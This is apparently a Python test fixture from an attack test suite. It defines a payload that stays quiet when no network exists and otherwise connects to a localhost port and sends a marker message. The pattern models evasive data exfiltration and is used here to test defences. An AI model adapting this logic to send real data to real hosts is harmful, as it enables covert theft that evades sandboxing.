"""Behaves where there is no network, and sends what it finds where there is."""

from tests.attacks.case import Attack

ATTACK = Attack(
    must="here there is none, so it behaves",
    stock="leaked",
    last="""
import socket
try: server = socket.create_connection(('127.0.0.1', @tcp@), 2)
except OSError: server = None
if server is not None:
    server.sendall(b'attacked-by-@name@!')
    server.close()
""",
)
